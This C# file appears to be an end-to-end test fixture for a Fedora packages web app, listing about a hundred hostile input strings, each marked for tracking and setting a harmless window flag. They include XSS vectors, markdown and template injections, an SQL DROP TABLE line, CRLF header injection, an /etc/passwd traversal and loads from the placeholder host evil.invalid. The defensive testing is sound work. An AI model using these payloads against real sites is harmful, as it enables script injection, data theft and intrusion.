using System.Globalization;

namespace FedoraPackages.Tests.EndToEnd.Hostile;

/// <summary>
/// A hundred strings that mean to be more than text. Each sets <c>window.hostile</c> if it is ever run, and holds a mark of its own
/// (<c>zq17z</c>) by which it is found again.
/// </summary>
internal static class HostileStrings
{
    private const string Run = "window.hostile=1";

    private static readonly string[] Shapes =
    [
        "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script src=//evil.invalid/x.js></script>", "<script>RUN//", "</script><script>RUN</script>",
        "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>", "--><script>RUN</script>", "]]><script>RUN</script>",
        "<scr<script>ipt>RUN</scr</script>ipt>", "<script\u00a0>RUN</script>",
        "<script\t>RUN</script\n>", "<script/x>RUN</script>", "<script type=module>RUN</script>",
        "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", "\"><img src=x onerror=RUN>", "'><img src=x onerror=RUN>", "<img/src=x/onerror=RUN>",
        "<IMG SRC=javascript:RUN>", "<img src=\"x`<script>RUN</script>\"`>",
        "<img srcset=x onerror=RUN>", "<image src=x onerror=RUN>", "<img src=//evil.invalid/pixel>",
        "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>",
        "<math><mtext></p><script>RUN</script>", "<math href=javascript:RUN>x</math>",
        "<body onload=RUN>", "<html onmouseover=RUN>", "<iframe src=javascript:RUN></iframe>",
        "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>", "<object data=javascript:RUN></object>",
        "<embed src=javascript:RUN>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<style>@import '//evil.invalid/x.css';</style>",
        "<style>*{background:url(//evil.invalid/x)}</style>", "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
        "<base href=//evil.invalid/>", "<form action=//evil.invalid/><button>go</button></form>", "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>",
        "<details open ontoggle=RUN>", "<video src=x onerror=RUN>", "<audio src=x onerror=RUN>",
        "<marquee onstart=RUN>", "<a href=javascript:RUN>x</a>", "<a href='java&#115;cript:RUN'>x</a>",
        "<a href=' javascript:RUN'>x</a>", "<a href='data:text/html,<script>RUN</script>'>x</a>",
        "<a href='vbscript:RUN'>x</a>", "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
        "\" onmouseover=\"RUN", "' onmouseover='RUN", "\" autofocus onfocus=\"RUN", "` onmouseover=`RUN", "\"/><script>RUN</script>",
        "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;",
        "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "%3Cscript%3ERUN%3C/script%3E", "+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "<!--<img src=x onerror=RUN>-->", "<![CDATA[<script>RUN</script>]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'RUN'>]><x>&e;</x>",
        "<template><script>RUN</script></template>", "<noscript><p title='</noscript><script>RUN</script>'>",
        "[x](javascript:RUN)", "[x](<javascript:RUN>)", "![x](//evil.invalid/pixel)", "[x]: javascript:RUN", "<javascript:RUN>",
        "[x](data:text/html,RUN)", "[<img src=x onerror=RUN>](http://evil.invalid/)",
        "```\n<script>RUN</script>\n```", "{{constructor.constructor('RUN')()}}", "${RUN}",
        "<%= RUN %>", "@{RUN}", "@(RUN)", "'; DROP TABLE panels; --", "{\"fact\":\"build\",\"package\":\"x\"}",
        "\u202eRUN\u202c", "\u2066\u202e<script>RUN</script>\u2069", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307RUN",
        "\u200b<script>RUN</script>\u200b", "\ufeff<script>RUN</script>",
        "\u0000<script>RUN</script>", "\r\nSet-Cookie: hostile=1", "../../../../etc/passwd",
        "someone@example.invalid <script>RUN</script>", "\ud83d\udca3<script>RUN</script>",
    ];

    /// <summary>The hundred.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Shapes.Select((shape, at) => $"{Mark(at)} {shape.Replace("RUN", Run, StringComparison.Ordinal)}")];

    /// <summary>By which the string of that place is found again.</summary>
    public static string Mark(int at) => string.Create(CultureInfo.InvariantCulture, $"zq{at}z");
}
